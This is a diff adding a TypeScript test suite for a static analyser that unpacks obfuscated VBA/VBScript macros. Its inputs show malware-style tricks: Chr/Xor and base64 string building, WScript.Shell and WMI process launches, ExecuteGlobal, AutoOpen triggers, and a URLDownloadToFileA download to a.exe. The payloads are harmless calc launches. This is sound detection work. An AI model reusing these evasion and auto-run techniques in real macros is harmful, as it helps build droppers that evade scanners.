@@ -1,0 +1,253 @@
+import assert from 'node:assert/strict'
+import { suite, test } from 'node:test'
+import { assertCheap } from '#inspect/testing/cpu-time.ts'
+import { type BasicEffect, CODE_TEXTS_MAX, readBasic } from './basic.ts'
+import { CALL_DEPTH_MAX } from './evaluate.ts'
+import { MEMBERS_MAX, NESTING_MAX } from './expressions.ts'
+import { ELEMENTS_MAX, TEXT_MAX } from './functions.ts'
+import { ITERATIONS_MAX } from './machine.ts'
+import { PARSED_MAX } from './program.ts'
+import { AUTOMATIC, CALLED, RECORDED_MAX } from './state.ts'
+import { BLOCKS_MAX } from './statements.ts'
+
+const read = (text: string, options?: Parameters<typeof readBasic>[1]) => readBasic([{ name: 'a', text }], options)
+const macro = (body: string): string => `Sub AutoOpen()\n${body}\nEnd Sub\n`
+const effectsOf = (text: string): string[] => read(text).effects.map(({ kind, text: what }) => `${kind} ${what}`)
+/** The command that the macro starts. */
+const started = (body: string, rest = ''): string | undefined =>
+  read(macro(body) + rest).effects.find(({ kind }) => kind === 'start')?.text
+
+suite('expressions are folded', () => {
+  const cases: Record<string, string> = {
+    'Shell "c" & "al" + "c"': 'calc',
+    'Shell Chr(99) & ChrW$(97) & Chr(&H6C) & Chr(CLng("&H63"))': 'calc',
+    'Shell StrReverse("clac")': 'calc',
+    'Shell Replace("cXXalXXc", "XX", "")': 'calc',
+    'Shell Replace("cxXalXxc", "XX", "", 1, -1, vbTextCompare)': 'calc',
+    'Shell Join(Array("c", "al", "c"), "")': 'calc',
+    'Shell Join(Split("c-a-l-c", "-"), vbNullString)': 'calc',
+    'Shell Mid("xxcalcxx", 3, 4)': 'calc',
+    'Shell Left("calcxx", 4) & Right(".exe.exe", 4)': 'calc.exe',
+    'Shell LCase("CALC")': 'calc',
+    'Shell Trim("  calc ")': 'calc',
+    'Shell Chr(90 + 3 * 3) & Chr(7 Xor 102) & Chr(108 And 255) & Chr(198 \\ 2)': 'calc',
+    'Shell Chr(2 ^ 6 + 35) & Chr(1097 Mod 1000) & "lc"': 'calc',
+    'Shell Environ("TEMP") & "\\a.exe"': '%temp%\\a.exe',
+    'Shell unknown(1) & ".exe"': '\ufffd.exe',
+    'Shell StrConv(StrConv("calc", vbFromUnicode), vbUnicode)': 'calc',
+    'Shell IIf(1 > 2, "no", "calc")': 'calc',
+    'Shell Choose(2, "a", "calc")': 'calc',
+    'Shell VBA.Strings.Chr$(99) & VBA.Mid("alc", 1)': 'calc',
+    'Shell ("calc") & ".exe", 0': 'calc.exe',
+    'Call Shell("calc")': 'calc',
+    'x = Shell("calc", 1)': 'calc',
+    'Shell _\n  "ca" & _\n  "lc"': 'calc',
+    'Shell "calc" \' Shell "no"': 'calc',
+    'Rem Shell "no"\nShell "calc"': 'calc',
+    'a = "ca": b = "lc": Shell a & b': 'calc',
+    'If 1 = 1 Then Shell "calc" Else Shell "no"': 'calc',
+    'If 1 = 2 Then\nShell "no"\nElseIf 3 > 2 Then\nShell "calc"\nEnd If': 'calc',
+    'If Application.Version > 5 Then Exit Sub\nShell "calc"': 'calc',
+    'Select Case 7\nCase 1 To 3: Shell "no"\nCase Is > 6: Shell "calc"\nEnd Select': 'calc',
+    'For i = 4 To 1 Step -1: s = s & Mid("clac", i, 1): Next\nShell s': 'calc',
+    'For Each c In Array(99, 97, 108, 99): s = s & Chr(c): Next\nShell s': 'calc',
+    'For Each c In Array(106, 104, 101, 106): s = s & Chr(c Xor 9): Next\nShell s': 'calc',
+    'Do While Len(s) < 3\ns = s & "a"\nLoop\nShell s': 'aaa',
+    'Do\ns = s & "a"\nLoop Until Len(s) = 2\nShell s': 'aa',
+    'While Len(s) < 2: s = s & "b": Wend\nShell s': 'bb',
+    'Dim a(3) As String\na(0) = "ca": a(1) = "lc"\nShell a(0) & a(1)': 'calc',
+    'With CreateObject("WScript.Shell")\n.Run "calc", 0\nEnd With': 'calc',
+    'CreateObject("WScr" & "ipt.Shell").Exec "calc"': 'calc',
+    'CallByName CreateObject("WScript.Shell"), "R" & "un", 1, "calc"': 'calc',
+    'GetObject("winmgmts:\\\\.\\root\\cimv2").Get("Win32_Process").Create "calc"': 'calc',
+    'GetObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}").Run "calc"': 'calc',
+    'Set e = CreateObject("Msxml2.DOMDocument").createElement("a")\ne.DataType = "bin.base64"\ne.Text = "Y2FsYw=="\nShell StrConv(e.nodeTypedValue, 64)':
+      'calc',
+    '[Shell] "calc"': 'calc',
+    'SHELL "calc"': 'calc',
+  }
+  for (const [body, command] of Object.entries(cases)) test(body, () => assert.equal(started(body), command))
+
+  test('functions of the program', () => {
+    const decode =
+      'Function D(s, k)\nDim i\nFor i = 1 To Len(s)\nD = D & Chr(Asc(Mid(s, i, 1)) - k)\nNext i\nEnd Function\nSub Add(ByRef s)\ns = s & ".exe"\nEnd Sub'
+    assert.equal(started('s = D("dbmd", 1)\nAdd s\nShell s', decode), 'calc.exe')
+  })
+
+  test('constants and variables of the module', () => {
+    assert.equal(
+      read(`Private Const A = "ca"\nDim B\n${macro('B = "lc"\nC')}Sub C()\nShell A & B\nEnd Sub`).effects[0]?.text,
+      'calc',
+    )
+  })
+
+  test('a function of a library is known by its own name', () => {
+    const declare =
+      'Private Declare PtrSafe Function g Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long) As Long\n'
+    assert.deepEqual(effectsOf(declare + macro('g 0, "http://192.0.2.1/a", "a.exe", 0, 0')), [
+      'fetch http://192.0.2.1/a a.exe',
+    ])
+  })
+
+  test('code in texts', () => {
+    assert.deepEqual(effectsOf(macro('ExecuteGlobal "Shell ""ca"" & ""lc"""')).at(-1), 'start calc')
+  })
+})
+
+suite('reach', () => {
+  const automatic = (text: string, options?: Parameters<typeof readBasic>[1]) =>
+    read(text, options).effects.map((effect: BasicEffect) => effect.isAutomatic)
+
+  test('a procedure that nothing calls is not automatic', () => {
+    assert.deepEqual(automatic('Sub Button1_Click()\nShell "calc"\nEnd Sub'), [false])
+  })
+  test('a procedure that an automatic one calls is', () => {
+    assert.deepEqual(automatic(`${macro('B')}Sub B()\nC\nEnd Sub\nSub C()\nShell "calc"\nEnd Sub`), [true])
+  })
+  test('also by a built name, and through a form', () => {
+    assert.deepEqual(automatic(`${macro('Application.Run "B" & "1"')}Sub B1()\nShell "calc"\nEnd Sub`), [true])
+    assert.deepEqual(automatic(`${macro('UserForm1.Show')}Sub UserForm_Initialize()\nShell "calc"\nEnd Sub`), [true])
+  })
+  test('a script runs from the top', () => {
+    assert.deepEqual(automatic('Shell "calc"', { isScript: true }), [true])
+    assert.deepEqual(automatic('B\nSub B()\nShell "calc"\nEnd Sub', { isScript: true }), [true])
+  })
+  test('callbacks can be named', () => {
+    assert.deepEqual(automatic('Sub Loaded(r)\nShell "calc"\nEnd Sub', { triggers: ['Loaded'] }), [true])
+  })
+})
+
+suite('limits', () => {
+  const incomplete = (text: string): boolean => read(text).isIncomplete
+
+  /** Each round takes five steps: the statement, the value and the condition. */
+  const waste = (rounds: number): string =>
+    `For j = 1 To ${Math.ceil(rounds / 1000)}: For i = 1 To 1000: x = 1: Next: Next`
+  const STEPS_PER_ROUND = 2
+
+  test('steps of one entry point', () => {
+    const fits = AUTOMATIC.stepsPerEntry / STEPS_PER_ROUND
+    assert.equal(incomplete(macro(waste(fits * 0.98))), false)
+    assert.equal(incomplete(macro(waste(fits * 1.02))), true)
+  })
+
+  test('an entry point that takes all its steps does not hide the next', () => {
+    const text = `${macro(waste(60_000_000))}Sub Document_Open()\nShell "calc"\nEnd Sub`
+    assert.equal(read(text).effects.length, 1)
+  })
+
+  test('steps of all entry points', () => {
+    const many = (count: number): string =>
+      Array.from(
+        { length: count },
+        (_, i) => `Sub A${i}_Change()\n${waste(AUTOMATIC.stepsPerEntry / STEPS_PER_ROUND / 1.02)}\nEnd Sub\n`,
+      ).join('')
+    const fits = Math.floor(AUTOMATIC.steps / AUTOMATIC.stepsPerEntry)
+    assert.equal(incomplete(many(fits)), false)
+    assert.equal(incomplete(many(fits + 1)), true)
+  })
+
+  test('steps of code that needs a call', () => {
+    const effects = (rounds: number): number => read(`Sub A()\n${waste(rounds)}\nShell "a"\nEnd Sub`).effects.length
+    assert.equal(effects(CALLED.stepsPerEntry / STEPS_PER_ROUND - 1_000), 1)
+    assert.equal(effects(CALLED.stepsPerEntry / STEPS_PER_ROUND + 1_000), 0)
+  })
+
+  test('iterations of one loop', () => {
+    const count = (to: number): string | undefined => started(`For i = 1 To ${to}: n = n + 1: Next\nShell n`)
+    assert.equal(count(ITERATIONS_MAX), String(ITERATIONS_MAX))
+    assert.equal(count(ITERATIONS_MAX + 1), String(ITERATIONS_MAX))
+  })
+
+  test('calls inside each other', () => {
+    const recursion = 'Function R(n)\nIf n = 0 Then R = "z" Else R = R(n - 1)\nEnd Function'
+    const depth = (calls: number): string | undefined => started(`Shell R(${calls - 2})`, recursion)
+    assert.equal(depth(CALL_DEPTH_MAX), 'z')
+    assert.equal(depth(CALL_DEPTH_MAX + 1), '\ufffd')
+  })
+
+  test('parentheses inside each other', () => {
+    const nested = (levels: number): string | undefined =>
+      started(`Shell ${'('.repeat(levels)}"a"${')'.repeat(levels)}`)
+    assert.equal(nested(NESTING_MAX - 1), 'a')
+    assert.equal(nested(NESTING_MAX + 1), undefined)
+  })
+
+  test('members after each other', () => {
+    const members = (count: number): string | undefined => started(`a${'.b'.repeat(count - 1)}.run "a.exe"`)
+    assert.equal(members(MEMBERS_MAX), 'a.exe')
+    assert.equal(members(MEMBERS_MAX + 1), undefined)
+  })
+
+  test('blocks inside each other', () => {
+    const nested = (levels: number): string | undefined =>
+      started(`${'If True Then\n'.repeat(levels)}Shell "a"\n${'End If\n'.repeat(levels)}`)
+    assert.equal(nested(BLOCKS_MAX), 'a')
+    assert.doesNotThrow(() => nested(BLOCKS_MAX + 1))
+  })
+
+  test('characters of one text', () => {
+    const text = (length: number): string | undefined => started(`Shell Len(String(${length}, "a"))`)
+    assert.equal(text(TEXT_MAX), String(TEXT_MAX))
+    assert.equal(text(TEXT_MAX + 1), '\ufffd')
+  })
+
+  test('characters of all texts', () => {
+    const texts = (count: number): string =>
+      macro(`s = String(${TEXT_MAX}, "a")\nFor i = 1 To ${count}: t = Right(s, 1): Next`)
+    const fits = AUTOMATIC.charactersPerEntry / TEXT_MAX
+    assert.equal(incomplete(texts(fits - 1)), false)
+    assert.equal(incomplete(texts(fits + 1)), true)
+  })
+
+  test('elements of an array', () => {
+    const last = (at: number): string | undefined => started(`Dim a(9)\na(${at}) = "x"\nShell a(${at})`)
+    assert.equal(last(ELEMENTS_MAX - 1), 'x')
+    assert.equal(last(ELEMENTS_MAX), '\ufffd')
+  })
+
+  test('recorded calls', () => {
+    const calls = (count: number): string => macro(`For i = 1 To ${count}: Shell "a" & i: Next`)
+    assert.equal(incomplete(calls(RECORDED_MAX)), false)
+    assert.equal(incomplete(calls(RECORDED_MAX + 1)), true)
+  })
+
+  test('texts that are run as code', () => {
+    const texts = (count: number): number =>
+      read(macro(`For i = 1 To ${count}: Execute "Shell ""a" & i & """": Next`)).effects.filter(
+        ({ kind }) => kind === 'start',
+      ).length
+    assert.equal(texts(CODE_TEXTS_MAX), CODE_TEXTS_MAX)
+    assert.equal(texts(CODE_TEXTS_MAX + 1), CODE_TEXTS_MAX)
+  })
+
+  test('characters that are parsed', () => {
+    const filler = (length: number): string => macro(`'${'x'.repeat(length)}`)
+    const rest = filler(0).length - 1
+    assert.equal(incomplete(filler(PARSED_MAX - rest - 10)), false)
+    assert.equal(incomplete(filler(PARSED_MAX)), true)
+  })
+})
+
+suite('hostile texts', () => {
+  const big = 1_500_000
+  const texts: Record<string, () => string> = {
+    quotes: () => '"'.repeat(big),
+    apostrophes: () => "'".repeat(big),
+    'open parentheses': () => macro(`x = ${'('.repeat(big)}`),
+    'open blocks': () => macro('If a Then\n'.repeat(big / 10)),
+    'unary signs': () => macro(`x = ${'-'.repeat(big)}1`),
+    continuations: () => ' _\n'.repeat(big / 3),
+    headers: () => 'Sub AutoOpen()\n'.repeat(big / 15),
+    concatenations: () => macro(`x = "a"${' & "a"'.repeat(big / 6)}`),
+    'calls of itself': () => macro('AutoOpen\n'.repeat(big / 9)),
+    declarations: () => 'Declare Function a Lib "b"\n'.repeat(big / 27),
+    brackets: () => '['.repeat(big),
+    members: () => macro(`x${'.a'.repeat(big / 2)}`),
+  }
+  for (const [name, create] of Object.entries(texts))
+    test(name, () => {
+      const text = create()
+      assertCheap(() => read(text), name)
+    })
+})
